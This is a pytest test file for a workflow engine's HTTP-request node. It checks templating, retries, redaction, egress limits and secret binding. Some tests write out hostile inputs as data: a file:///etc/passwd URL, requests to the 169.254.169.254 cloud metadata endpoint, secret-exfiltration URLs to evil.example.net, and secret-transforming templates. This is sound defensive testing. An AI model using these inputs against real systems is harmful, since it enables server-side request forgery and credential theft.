"""The `node.http` activity against a real HTTP server on loopback."""

from __future__ import annotations

import base64
import dataclasses
import json
from datetime import timedelta
from typing import Any
from urllib.parse import quote_plus

import httpx
import pytest
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from activities.blobs import BlobActivities, FileBlobStore
from activities.http import HttpActivities
from activities.secrets import Credential, StaticSecretSource
from auterity.egress import EgressClient, EgressPolicy
from auterity.graph.contracts import BlobGetInput, is_blob_ref
from auterity.redaction import MASK as REDACTED
from tests.activities.nodes import TENANT, node_request
from tests.servers import Recorder
from tests.support import free_port

TOKEN = "s3cr3t-T0KEN-value"
BOUND = "bound+secret/value=="
ELSEWHERE = "elsewhere-secret-value"
PASSWORD = "pa:ss word/1"


@pytest.fixture
def http(
    http_client: EgressClient, blobs: FileBlobStore, service: tuple[str, Recorder]
) -> HttpActivities:
    secrets = StaticSecretSource(
        {
            TENANT: {
                "token": TOKEN,
                "host_path": "echo",
                "bound": Credential(BOUND, ("127.0.0.1",)),
                "elsewhere": Credential(ELSEWHERE, ("api.example.com", "*.example.org")),
                "hook": Credential(f"{service[0]}/echo?hook=1", ("127.0.0.1",)),
                "user": Credential("bot", ("127.0.0.1",)),
                "password": Credential(PASSWORD, ("127.0.0.1",)),
            }
        }
    )
    return HttpActivities(http_client, secrets, blobs, threshold_bytes=4096)


async def _fail(env: ActivityEnvironment, http: HttpActivities, config: dict[str, Any]) -> Any:
    with pytest.raises(ApplicationError) as caught:
        await env.run(http.request, node_request("http", config))
    return caught.value


async def test_renders_url_query_headers_and_json_from_the_scope(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    scope = {
        "inputs": {"ticket": "T-42", "count": 3},
        "nodes": {"classify": {"output": {"label": "urgent"}, "status": "completed"}},
        "vars": {"base": url},
    }
    config = {
        "method": "POST",
        "url": "{{ vars.base }}/echo",
        "query": {"ticket": "{{ inputs.ticket }}"},
        "headers": {"X-Label": "{{ nodes.classify.output.label }}"},
        "json": {"count": "{{ inputs.count }}", "text": "ticket {{ inputs.ticket }}"},
    }
    result = await activity_env.run(http.request, node_request("http", config, scope=scope))

    assert result.output["status"] == 200
    seen = result.output["body"]
    assert seen["method"] == "POST"
    assert seen["query"] == {"ticket": "T-42"}
    assert seen["headers"]["x-label"] == "urgent"
    assert json.loads(seen["body"]) == {"count": 3, "text": "ticket T-42"}
    assert result.output["headers"]["content-type"] == "application/json"
    assert "date" not in result.output["headers"] and "server" not in result.output["headers"]


async def test_text_bodies_are_returned_as_text(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    result = await activity_env.run(http.request, node_request("http", {"url": f"{url}/text"}))
    assert result.output["body"] == "plain words"


async def test_idempotency_key_is_stable_across_attempts_and_per_item(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, recorder = service
    config = {"method": "POST", "url": f"{url}/echo", "json": {}}
    request = node_request("http", config, node_id="notify", execution_id="t:g:run-idem")
    for attempt in (1, 2, 3):
        activity_env.info = dataclasses.replace(activity_env.info, attempt=attempt)
        result = await activity_env.run(http.request, request)
        assert result.attempt == attempt
    assert recorder.keys["t:g:run-idem:notify"] == 3

    scope = {"inputs": {}, "nodes": {}, "vars": {}, "item": "x", "index": 7}
    item = node_request("http", config, scope=scope, node_id="notify", execution_id="t:g:run-idem")
    result = await activity_env.run(http.request, item)
    assert result.output["body"]["headers"]["idempotency-key"] == "t:g:run-idem:notify:7"


async def test_an_explicit_idempotency_key_wins(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    config = {"url": f"{url}/echo", "headers": {"Idempotency-Key": "mine-1"}}
    result = await activity_env.run(http.request, node_request("http", config))
    assert result.output["body"]["headers"]["idempotency-key"] == "mine-1"


@pytest.mark.parametrize(
    ("status", "error_type", "retryable"),
    [
        (400, "HttpClientError", False),
        (401, "HttpClientError", False),
        (404, "HttpClientError", False),
        (422, "HttpClientError", False),
        (408, "HttpClientError", True),
        (429, "HttpClientError", True),
        (500, "HttpServerError", True),
        (503, "HttpServerError", True),
    ],
)
async def test_status_decides_retryability(
    activity_env: ActivityEnvironment,
    http: HttpActivities,
    service: tuple[str, Recorder],
    status: int,
    error_type: str,
    retryable: bool,
) -> None:
    url, recorder = service
    before = len(recorder.calls(f"/status/{status}"))
    error = await _fail(activity_env, http, {"url": f"{url}/status/{status}"})
    assert error.type == error_type
    assert error.non_retryable is not retryable
    assert "node 'call'" in error.message and str(status) in error.message
    assert error.details[0]["status"] == status
    assert "status" in error.details[0]["body"]
    assert len(recorder.calls(f"/status/{status}")) == before + 1


async def test_retry_after_sets_the_next_retry_delay(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    error = await _fail(activity_env, http, {"url": f"{url}/status/429?retry_after=7"})
    assert not error.non_retryable
    assert error.next_retry_delay == timedelta(seconds=7)


async def test_expected_statuses_count_as_success(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    config = {"url": f"{url}/status/404", "expect_status": [200, 404]}
    result = await activity_env.run(http.request, node_request("http", config))
    assert result.output["status"] == 404
    assert result.output["body"] == {"error": "status 404"}

    error = await _fail(activity_env, http, {"url": f"{url}/text", "expect_status": [201]})
    assert error.type == "HttpUnexpectedStatus" and error.non_retryable


async def test_network_errors_are_retryable(
    activity_env: ActivityEnvironment, http: HttpActivities
) -> None:
    error = await _fail(activity_env, http, {"url": f"http://127.0.0.1:{free_port()}/nothing"})
    assert error.type == "HttpNetworkError"
    assert not error.non_retryable


async def test_secrets_reach_the_server_but_never_the_output(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, recorder = service
    config = {
        "url": url + "/{{ secrets.host_path }}",
        "query": {"key": "{{ secrets.token }}"},
        "headers": {"Authorization": "Bearer {{ secrets['token'] }}"},
    }
    result = await activity_env.run(http.request, node_request("http", config))

    seen = recorder.requests[-1]
    assert seen["headers"]["authorization"] == f"Bearer {TOKEN}"
    assert seen["query"] == {"key": TOKEN}
    text = json.dumps(result.model_dump(mode="json"))
    assert TOKEN not in text
    assert result.output["body"]["headers"]["authorization"] == f"Bearer {REDACTED}"


async def test_secrets_never_appear_in_errors(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    config = {
        "url": url + "/status/401/{{ secrets.token }}",
        "headers": {"Authorization": "{{ secrets.token }}"},
    }
    error = await _fail(activity_env, http, config)
    assert error.type == "HttpClientError"
    assert TOKEN not in error.message
    assert TOKEN not in json.dumps(error.details)

    config = {"url": f"http://127.0.0.1:{free_port()}/" + "{{ secrets.token }}"}
    error = await _fail(activity_env, http, config)
    assert error.type == "HttpNetworkError"
    assert TOKEN not in error.message and REDACTED in error.message


async def test_unknown_secret_fails_without_retry(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    error = await _fail(activity_env, http, {"url": url + "/echo?k={{ secrets.missing }}"})
    assert error.type == "SecretNotFound" and error.non_retryable
    assert "missing" in error.message


async def test_expression_errors_name_the_node_and_field(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    config = {"url": f"{url}/echo", "headers": {"X-Broken": "{{ inputs.nope }}"}}
    error = await _fail(activity_env, http, config)
    assert error.type == "ExpressionError" and error.non_retryable
    assert error.message.startswith("node 'call': headers:")
    assert "nope" in error.message


async def test_large_bodies_become_blob_refs_that_blob_get_returns(
    activity_env: ActivityEnvironment,
    http: HttpActivities,
    blobs: FileBlobStore,
    service: tuple[str, Recorder],
) -> None:
    url, _ = service
    small = await activity_env.run(
        http.request, node_request("http", {"url": f"{url}/big?items=3"})
    )
    assert not is_blob_ref(small.output)

    result = await activity_env.run(http.request, node_request("http", {"url": f"{url}/big"}))
    ref = result.output
    assert is_blob_ref(ref)
    assert ref["size"] > 4096
    assert ref["$blob"] == f"{TENANT}/{ref['sha256']}"

    stored = await activity_env.run(BlobActivities(blobs).get, BlobGetInput(tenant=TENANT, ref=ref))
    assert stored["status"] == 200
    assert len(stored["body"]["items"]) == 5000
    assert stored["body"]["items"][4999] == {"n": 4999, "label": "item-4999"}

    with pytest.raises(ApplicationError) as caught:
        await activity_env.run(BlobActivities(blobs).get, BlobGetInput(tenant="tenant-b", ref=ref))
    assert caught.value.type == "BlobNotFound" and caught.value.non_retryable


async def test_templates_read_through_blob_refs_in_the_scope(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    fetched = await activity_env.run(http.request, node_request("http", {"url": f"{url}/big"}))
    assert is_blob_ref(fetched.output)
    scope = {
        "inputs": {},
        "vars": {},
        "nodes": {"fetch": {"output": fetched.output, "status": "completed"}},
    }
    config = {
        "method": "POST",
        "url": f"{url}/echo",
        "json": {"count": "{{ nodes.fetch.output.body['items'] | length }}"},
    }
    result = await activity_env.run(http.request, node_request("http", config, scope=scope))
    assert json.loads(result.output["body"]["body"]) == {"count": 5000}


async def test_oversized_responses_fail_without_retry(
    activity_env: ActivityEnvironment,
    http_client: httpx.AsyncClient,
    blobs: FileBlobStore,
    service: tuple[str, Recorder],
) -> None:
    url, _ = service
    capped = HttpActivities(http_client, StaticSecretSource(), blobs, max_response_bytes=10_000)
    with pytest.raises(ApplicationError) as caught:
        await activity_env.run(capped.request, node_request("http", {"url": f"{url}/big"}))
    assert caught.value.type == "HttpResponseTooLarge" and caught.value.non_retryable


async def test_query_merges_with_the_urls_own_query(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, _ = service
    config = {"url": f"{url}/echo?fixed=1&page=1", "query": {"page": 2, "q": "a b"}}
    result = await activity_env.run(http.request, node_request("http", config))
    assert result.output["body"]["query"] == {"fixed": "1", "page": "2", "q": "a b"}


async def test_a_url_that_renders_to_another_scheme_is_refused(
    activity_env: ActivityEnvironment, http: HttpActivities
) -> None:
    config = {"url": "{{ inputs.target }}"}
    scope = {"inputs": {"target": "file:///etc/passwd"}, "nodes": {}, "vars": {}}
    with pytest.raises(ApplicationError) as caught:
        await activity_env.run(http.request, node_request("http", config, scope=scope))
    assert caught.value.type == "HttpRequestInvalid" and caught.value.non_retryable


async def test_the_default_egress_policy_refuses_internal_addresses(
    activity_env: ActivityEnvironment, blobs: FileBlobStore, service: tuple[str, Recorder]
) -> None:
    """Attack: a node used to reach anything the worker could, loopback included."""
    url, recorder = service
    before = len(recorder.requests)
    async with EgressClient(EgressPolicy()) as client:
        strict = HttpActivities(client, StaticSecretSource(), blobs)
        for target in (f"{url}/echo", "http://169.254.169.254/latest/meta-data/"):
            with pytest.raises(ApplicationError) as caught:
                await activity_env.run(strict.request, node_request("http", {"url": target}))
            error = caught.value
            assert error.type == "EgressRefused" and error.non_retryable
            assert error.message.startswith("node 'call': egress to ")
            assert "AUTERITY_EGRESS_ALLOW" in error.message
    assert len(recorder.requests) == before


async def test_a_redirect_is_the_answer_and_is_not_followed(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, recorder = service
    for target in (f"{url}/echo?followed=1", "http://169.254.169.254/latest/meta-data/"):
        config = {"url": f"{url}/redirect", "query": {"to": target}}
        error = await _fail(activity_env, http, config)
        assert error.type == "HttpUnexpectedStatus" and error.non_retryable
        assert error.details[0]["headers"]["location"] == target
    assert not [seen for seen in recorder.requests if seen["query"].get("followed")]


async def test_a_secret_is_sent_only_to_the_hosts_it_is_bound_to(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, recorder = service
    before = len(recorder.requests)
    for config in (
        {"url": f"{url}/echo", "headers": {"X-Key": "{{ secrets.elsewhere }}"}},
        {"url": "http://evil.example.net/?x={{ secrets.elsewhere }}"},
        {"url": "http://api.example.com.evil.net/", "json": {"k": "{{ secrets.elsewhere }}"}},
        {"url": f"{url}/echo", "auth": {"scheme": "bearer", "token": "{{ secrets.elsewhere }}"}},
    ):
        error = await _fail(activity_env, http, config)
        assert error.type == "SecretRefused" and error.non_retryable
        assert "secret 'elsewhere' may not be sent to " in error.message
        assert "bound to api.example.com, *.example.org" in error.message
        assert ELSEWHERE not in error.message
    assert len(recorder.requests) == before


async def test_a_bound_secret_reaches_its_host_and_never_the_output(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, recorder = service
    config = {
        "url": "{{ secrets.hook }}",
        "query": {"key": "{{ secrets.bound }}"},
        "auth": {
            "scheme": "basic",
            "username": "{{ secrets.user }}",
            "password": "{{ secrets.password }}",
        },
    }
    result = await activity_env.run(http.request, node_request("http", config))
    seen = recorder.requests[-1]
    assert seen["query"] == {"hook": "1", "key": BOUND}
    basic = base64.b64encode(f"bot:{PASSWORD}".encode()).decode()
    assert seen["headers"]["authorization"] == f"Basic {basic}"
    text = json.dumps(result.model_dump(mode="json"))
    for value in (BOUND, PASSWORD, basic, quote_plus(BOUND)):
        assert value not in text
    assert result.output["body"]["headers"]["authorization"] == REDACTED


async def test_bearer_auth_builds_the_header(
    activity_env: ActivityEnvironment, http: HttpActivities, service: tuple[str, Recorder]
) -> None:
    url, recorder = service
    config = {"url": f"{url}/echo", "auth": {"scheme": "bearer", "token": "{{ secrets.bound }}"}}
    await activity_env.run(http.request, node_request("http", config))
    assert recorder.requests[-1]["headers"]["authorization"] == f"Bearer {BOUND}"


@pytest.mark.parametrize(
    ("field", "config"),
    [
        ("json.k", {"json": {"k": "{{ secrets.token | reverse }}"}}),
        ("headers.X", {"headers": {"X": "{{ secrets.token[::-1] }}"}}),
        ("method", {"method": "{{ 'GET' if secrets.token.startswith('s') else 'POST' }}"}),
        ("body", {"body": "{% for c in secrets.token %}{{ c }}.{% endfor %}"}),
    ],
)
async def test_a_transformed_secret_is_refused_before_it_is_fetched(
    activity_env: ActivityEnvironment,
    http: HttpActivities,
    service: tuple[str, Recorder],
    field: str,
    config: dict[str, Any],
) -> None:
    """Graphs saved before validation refused them still cannot run them."""
    url, recorder = service
    before = len(recorder.requests)
    error = await _fail(activity_env, http, {"url": f"{url}/echo", **config})
    assert error.type == "SecretRefused" and error.non_retryable
    assert error.message.startswith(f"node 'call': {field} at position ")
    assert len(recorder.requests) == before
